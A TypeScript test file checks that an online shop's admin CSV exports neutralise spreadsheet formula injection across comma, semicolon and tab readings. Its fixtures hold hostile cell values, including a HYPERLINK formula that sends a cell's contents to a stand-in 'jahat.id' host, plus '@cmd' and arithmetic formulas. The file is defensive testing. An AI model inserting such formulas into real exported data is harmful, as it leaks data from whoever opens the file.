/**
 * The admin's four exports opened in a spreadsheet that splits on ',', ';' (an Indonesian locale)
 * or tab: customers write names, complaint notes and reimbursement notes, and no cell of any reading
 * may start a formula (issue 25: 'Nm;=1+9;z' became the formula cell '=1+9' on ';').
 */
import { formulaCells, readWithQuotes } from '@premium-shop/domain/testing/spreadsheet';
import { describe, expect, it } from 'vitest';
import { complaints, reimbursements } from '../src/db/schema/engagement';
import { catalogueFixtures } from './catalogue-fixtures';
import { insertCustomer, signedInAdmin } from './customers';
import { createTestApp } from './helper';

const { app, db, tokens } = await createTestApp();
const admin = await signedInAdmin(db, tokens);

// Each one a cell of its own when read on ';' or tab, or after a line break, unless guarded.
const NAME = 'Nm;=1+9;z';
const NOTE = 'x;=1+4;y\n=HYPERLINK("http://jahat.id/?"&A2)\t@SUM(A1)';
const BANK = 'BCA; -2+3';
const host = await insertCustomer(db, NAME);
const shop = await catalogueFixtures(db);
const product = await shop.makeProduct({ name: 'Netflix;=CHAR(61)' });
const item = await shop.makeItem(product.id, 5, { name: 'Grup,+1', hostUserId: host.id });
const order = await shop.makeOrder(host.id, product.id, {
  status: 'Canceled',
  statusReason: 'Dibatalkan;=1+2',
});
await db.insert(complaints).values({
  userId: host.id,
  issue: 'other',
  productItemId: item.id,
  noOrder: order.invoice,
  note: NOTE,
  status: 'answered',
  reply: 'Baik;@cmd',
  repliedAt: new Date(),
  file: '/api/files/pengaduan.png',
});
await db.insert(reimbursements).values({
  userId: host.id,
  productItemId: item.id,
  orderId: order.id,
  value: 150_000,
  bank: BANK,
  accountNumber: '123;=4',
  paymentProof: '/api/files/bukti.png',
  status: 'Rejected',
  note: NOTE,
});

async function exportOf(list: string): Promise<string> {
  const answer = await app.inject({
    method: 'GET',
    url: `/api/admin/${list}/export.csv`,
    headers: { authorization: `Bearer ${admin.token}` },
  });
  expect(answer.statusCode, answer.body).toBe(200);
  return answer.body;
}

describe('the exports read as a spreadsheet reads them', () => {
  it.each(['orders', 'users', 'complaints', 'reimbursements'])(
    '%s: no cell starts a formula, split on comma, semicolon or tab, with or without quotes',
    async (list) => {
      const body = await exportOf(list);
      // The hostile texts are in the file, so the readings below had something to find.
      expect(body).toContain('=1+');
      expect(formulaCells(body)).toEqual([]);
    },
  );

  it('keeps the name readable: the semicolon reading shows the guarded text as text', async () => {
    // The complaints' name is not the line's first cell, so its quotes do not hold on ';'.
    const body = await exportOf('complaints');
    const cells = readWithQuotes(body, ';').flat();
    expect(cells).toContain("'=1+9");
    expect(cells).not.toContain('=1+9');
  });
});
